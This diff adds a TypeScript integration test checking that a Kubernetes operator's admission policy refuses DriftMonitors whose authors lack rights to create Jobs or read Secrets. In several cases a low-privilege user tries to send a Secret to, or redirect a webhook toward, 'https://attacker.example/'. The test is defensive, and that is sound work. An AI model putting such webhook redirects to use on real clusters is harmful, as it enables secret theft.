@@ -1,0 +1,176 @@
+// The chart's ValidatingAdmissionPolicy on the real apiserver: a DriftMonitor
+// acts with the operator's rights (it creates Jobs, reads a Secret to send
+// it to a URL), so its author must hold those rights already. Two users:
+// alice may create Jobs and get the Secret hook-token; mallory may only
+// manage DriftMonitors. The chart is rendered namespaced (the binding's
+// namespace selector is the watched namespace), as that is the narrower case.
+import { execFile } from "node:child_process";
+import { randomBytes } from "node:crypto";
+import { dirname, join, resolve } from "node:path";
+import { fileURLToPath } from "node:url";
+import { promisify } from "node:util";
+import yaml from "js-yaml";
+import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
+import { kubectl, kubectlOk, waitFor } from "../hack/localcluster/kubectl.ts";
+import { createTestNamespace, type TestNamespace } from "./harness/namespace.ts";
+
+const run = promisify(execFile);
+const root = resolve(dirname(fileURLToPath(import.meta.url)), "..");
+const kubeconfig = inject("kubeconfig");
+const binDir = inject("binDir");
+const opts = { kubeconfig, binDir };
+const release = `vap${randomBytes(3).toString("hex")}`;
+const POLICY_KINDS = ["ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"];
+let ns: TestNamespace;
+let policyObjects: { kind: string; metadata: { name: string } }[] = [];
+
+const JOB =
+  "{template: {spec: {template: {spec: {restartPolicy: Never, containers: [{name: t, image: busybox}]}}}}}";
+
+function driftMonitor(name: string, actions: string): string {
+  return `apiVersion: modelops.io/v1alpha1
+kind: DriftMonitor
+metadata: {name: ${name}}
+spec:
+  targetRef: {name: iris}
+  actions: ${actions}
+`;
+}
+
+/** kubectl in the test namespace as `user` (impersonated by the admin credentials). */
+const as = (user: string, args: string[], input?: string) =>
+  kubectl(["-n", ns.name, `--as=${user}`, "--as-group=system:authenticated", ...args], {
+    ...opts,
+    ...(input ? { input } : {}),
+  });
+
+function roles(namespace: string): string {
+  const binding = (user: string, role: string) => `---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {name: ${user}-${role}, namespace: ${namespace}}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: ${role}}
+subjects: [{kind: User, name: ${user}, apiGroup: rbac.authorization.k8s.io}]
+`;
+  return `apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: drift-editor, namespace: ${namespace}}
+rules:
+  - {apiGroups: [modelops.io], resources: [driftmonitors], verbs: [get, list, create, update, patch]}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: job-maker, namespace: ${namespace}}
+rules:
+  - {apiGroups: [batch], resources: [jobs], verbs: [create]}
+  - {apiGroups: [""], resources: [secrets], resourceNames: [hook-token], verbs: [get]}
+${binding("alice", "drift-editor")}${binding("alice", "job-maker")}${binding("mallory", "drift-editor")}`;
+}
+
+beforeAll(async () => {
+  ns = await createTestNamespace("vap", kubeconfig, binDir);
+  await kubectlOk(["apply", "-f", "-"], { ...opts, input: roles(ns.name) });
+  await ns.kubectlOk(["create", "secret", "generic", "hook-token", "--from-literal=token=t0p"]);
+  await ns.kubectlOk(["create", "secret", "generic", "other-token", "--from-literal=token=s3cret"]);
+  const helm = (await run("bash", [join(root, "hack/helm.sh")])).stdout.trim().split("\n").pop() ?? "";
+  const { stdout } = await run(helm, [
+    ...["template", release, join(root, "charts/modelops-operator"), "-n", ns.name],
+    ...["--kube-version", "1.34.4", "--set", "rbac.scope=namespace"],
+  ]);
+  policyObjects = (yaml.loadAll(stdout) as (typeof policyObjects)[number][]).filter(
+    (o) => o && POLICY_KINDS.includes(o.kind),
+  );
+  expect(policyObjects.map((o) => o.kind).sort()).toEqual(POLICY_KINDS);
+  await kubectlOk(["apply", "-f", "-"], {
+    ...opts,
+    input: policyObjects.map((o) => JSON.stringify(o)).join("\n"),
+  });
+  // The apiserver loads a new policy asynchronously: wait until it refuses.
+  await waitFor(
+    async () => {
+      const r = await as(
+        "mallory",
+        ["create", "--dry-run=server", "-f", "-"],
+        driftMonitor("probe", `{retrainJob: ${JOB}}`),
+      );
+      return r.code !== 0 && r.stderr.includes("ValidatingAdmissionPolicy") ? true : undefined;
+    },
+    { timeoutMs: 60_000, intervalMs: 500, description: "the admission policy in force" },
+  );
+}, 120_000);
+
+afterAll(async () => {
+  for (const o of policyObjects) await kubectl(["delete", o.kind, o.metadata.name, "--wait=false"], opts);
+  await ns?.delete();
+});
+
+describe("DriftMonitor admission policy", () => {
+  it("admits actions the author may perform: alice's retrainJob and webhook with hook-token", async () => {
+    const hook = `webhook: {url: "https://hooks.example/drift", secretRef: {name: hook-token, key: token}}`;
+    const r = await as(
+      "alice",
+      ["create", "-f", "-"],
+      driftMonitor("alice-dm", `{retrainJob: ${JOB}, ${hook}}`),
+    );
+    expect(r.stderr).toBe("");
+    expect(r.stdout).toContain("driftmonitor.modelops.io/alice-dm created");
+    const h = await as("alice", ["create", "-f", "-"], driftMonitor("alice-hook", `{${hook}}`));
+    expect(h.stdout).toContain("driftmonitor.modelops.io/alice-hook created");
+  });
+
+  it("admits mallory's DriftMonitor without actions that need rights", async () => {
+    const r = await as("mallory", ["create", "-f", "-"], driftMonitor("mallory-plain", "{rollback: true}"));
+    expect(r.stdout).toContain("created");
+  });
+
+  it("refuses mallory's retrainJob: she may not create Jobs", async () => {
+    const r = await as("mallory", ["create", "-f", "-"], driftMonitor("mallory-job", `{retrainJob: ${JOB}}`));
+    expect(r.code).not.toBe(0);
+    expect(r.stderr).toContain(
+      `spec.actions.retrainJob: user "mallory" may not create jobs.batch in namespace ${ns.name}`,
+    );
+  });
+
+  it("refuses a webhook secretRef the author may not get, by the Secret's name", async () => {
+    const hook = (secret: string) =>
+      `{webhook: {url: "https://attacker.example/", secretRef: {name: ${secret}, key: token}}}`;
+    const mallory = await as(
+      "mallory",
+      ["create", "-f", "-"],
+      driftMonitor("mallory-hook", hook("hook-token")),
+    );
+    expect(mallory.stderr).toContain(
+      `spec.actions.webhook.secretRef: user "mallory" may not get secret hook-token in namespace ${ns.name}`,
+    );
+    // alice may get hook-token only, not every Secret.
+    const alice = await as("alice", ["create", "-f", "-"], driftMonitor("alice-other", hook("other-token")));
+    expect(alice.stderr).toContain(`user "alice" may not get secret other-token`);
+  });
+
+  it("refuses updates too: mallory cannot redirect alice's webhook or add a Job to her own monitor", async () => {
+    const redirect = JSON.stringify({ spec: { actions: { webhook: { url: "https://attacker.example/" } } } });
+    const r = await as("mallory", ["patch", "driftmonitor", "alice-hook", "--type=merge", "-p", redirect]);
+    expect(r.stderr).toContain(`user "mallory" may not get secret hook-token`);
+    const addJob = `{"spec":{"actions":{"retrainJob":{"template":{"spec":{}}}}}}`;
+    const j = await as("mallory", ["patch", "driftmonitor", "mallory-plain", "--type=merge", "-p", addJob]);
+    expect(j.stderr).toContain(`user "mallory" may not create jobs.batch`);
+    const url = await ns.kubectlOk([
+      "get",
+      "driftmonitor",
+      "alice-hook",
+      "-o",
+      "jsonpath={.spec.actions.webhook.url}",
+    ]);
+    expect(url).toBe("https://hooks.example/drift");
+    // alice, who holds the rights, still may edit her monitor.
+    const ok = await as("alice", [
+      "patch",
+      "driftmonitor",
+      "alice-dm",
+      "--type=merge",
+      "-p",
+      '{"spec":{"interval":"10m"}}',
+    ]);
+    expect(ok.stdout).toContain("patched");
+  });
+});
